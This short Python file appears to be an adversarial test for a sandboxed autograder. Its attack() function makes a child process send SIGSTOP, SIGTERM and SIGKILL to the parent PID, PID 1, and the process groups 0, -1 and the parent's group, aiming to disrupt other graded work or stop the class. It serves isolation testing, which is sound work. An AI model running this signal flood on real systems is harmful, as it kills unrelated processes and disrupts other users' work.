"""In the child, every process is sent every signal.

Success: a neighbor or another question loses points, or the class stops.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.in_child(
        """
        import os, signal
        for number in (os.getppid(), 1, 0, -1, -os.getppid()):
            for kind in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                try:
                    if number not in (0, -1) or kind != signal.SIGSTOP:
                        os.kill(number, kind)
                except OSError as error:
                    print(error)
        """,
    )
